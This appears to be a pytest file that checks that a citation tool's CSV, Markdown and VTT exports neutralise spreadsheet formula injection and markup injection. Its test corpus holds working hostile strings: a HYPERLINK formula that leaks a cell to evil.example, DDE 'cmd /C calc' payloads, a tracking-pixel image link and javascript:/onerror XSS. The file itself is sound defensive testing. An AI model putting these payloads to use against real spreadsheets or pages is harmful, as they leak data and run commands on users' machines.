"""Exports that other programs open: no cell is a formula, no text is markup (S23)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from dataclasses import fields, replace
from io import StringIO

import pytest
from markdown_it import MarkdownIt

from quoth.core.lecture import Lecture, LiveCitation, TranscriptSegment, WindowRecord
from quoth.core.plan import make_plan
from quoth.core.types import (
    Answer,
    Chars,
    Citation,
    Counts,
    Locator,
    Pages,
    Query,
    Sentence,
)
from quoth.history.export import exported
from quoth.history.lecture_export import as_markdown, as_vtt
from quoth.pipeline.record import Record
from quoth.pipeline.retrieve import Request

CORPUS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "![pixel](http://evil.example/p.png)",
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)> -->",
    'one","=two\n=three\r\n# Heading\n| a | b |\n\nwww.evil.example',
)


def _record(text: str) -> Record:
    sentence = Sentence(0, len(text), (1,), "supported")
    citation = Citation(
        id="c1",
        number=1,
        document_id="d1",
        document_name=text,
        chunk_id="k1",
        section_heading=text,
        locator=Pages(1, 1, "1", "1"),
        page="1",
        page_number=1,
        snippet=text,
        snippet_start=0,
        snippet_end=len(text),
        link=None,
        relevance_score=1.0,
        support="supported",
        support_score=1.0,
        retrieval_method="hybrid",
        created_at="2026-11-22T00:00:00+00:00",
    )
    answer = Answer(
        query_id="q_1",
        query=Query(text, text, "en"),
        text=text,
        sentences=(sentence,),
        citations=(citation,),
        closest=(),
        status="answered",
        grounded=True,
        degraded=(),
        warnings=(text,),
        counts=Counts(),
        used_chunks=("k1",),
        timings_ms={},
        profile="default",
        index_version="t:1",
    )
    return Record(Request(text), make_plan("default"), answer)


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
    rows = list(csv.reader(StringIO(exported(_record(text), "csv"))))
    cells = [cell for row in rows for cell in row]
    assert len({len(row) for row in rows}) == 1
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))] == []


def _session_as_markdown(text: str) -> str:
    [cited] = _record(text).answer.citations
    card = LiveCitation(**{each.name: getattr(cited, each.name) for each in fields(cited)})
    window = WindowRecord(0, 0.0, 2.0, text, "s1", "2026-11-22", (card,))
    said = TranscriptSegment("s1", 0.0, 2.0, text, speaker=text)
    lecture = Lecture("l1", text, "en", (), "", "ended", "2026-11-22")
    [header, *_] = as_vtt(lecture, [said], [window]).split("\n\n")
    assert "<" not in header
    assert "-->" not in header
    return as_markdown(lecture, [said], [window])


def _answer_as_markdown(text: str) -> str:
    return exported(_record(text), "md")


@pytest.mark.parametrize(
    ("written", "headings"), [(_answer_as_markdown, ["h1", "h2"]), (_session_as_markdown, ["h1"])]
)
@pytest.mark.parametrize("text", CORPUS)
def test_no_text_is_markup_of_a_page(
    text: str, written: Callable[[str], str], headings: list[str]
) -> None:
    tokens = [
        child
        for token in MarkdownIt("commonmark").enable(["table", "linkify"]).parse(written(text))
        for child in (token, *(token.children or ()))
    ]
    kinds = {each.type for each in tokens}
    assert not kinds & {"image", "html_inline", "html_block", "table_open", "link_open", "fence"}
    assert [each.tag for each in tokens if each.type == "heading_open"] == headings


@pytest.mark.parametrize(
    ("locator", "place"),
    [
        (Chars(0, 4, section="Rain ▸ Hail"), "Skies, Rain ▸ Hail"),
        (Chars(0, 4), "Skies, Hail"),
        (Pages(3, 3, "3", "3", unit="slide"), "Skies, slide 3, Hail"),
    ],
)
def test_a_heading_is_named_once(locator: Locator, place: str) -> None:
    [cited] = _record("Ice falls.").answer.citations
    card = LiveCitation(**{each.name: getattr(cited, each.name) for each in fields(cited)})
    card = replace(card, document_name="Skies", locator=locator, section_heading="Hail")
    window = WindowRecord(0, 0.0, 2.0, "Ice", "s1", "2026-11-22", (card,))
    said = TranscriptSegment("s1", 0.0, 2.0, "Ice")
    lecture = Lecture("l1", "Weather", "en", (), "", "ended", "2026-11-22")
    assert as_vtt(lecture, [said], [window]).endswith(f"NOTE [1] {place}\n")
    assert f"> [1] {place}: “Ice falls.”" in as_markdown(lecture, [said], [window])


def test_a_text_that_only_looks_harmless_stays_as_it_is() -> None:
    record = _record("Water boils at 100 degrees.")
    assert "Water boils at 100 degrees." in exported(record, "csv")
    other = replace(record, keeping="full")
    assert "Water boils at 100 degrees" in exported(other, "md")
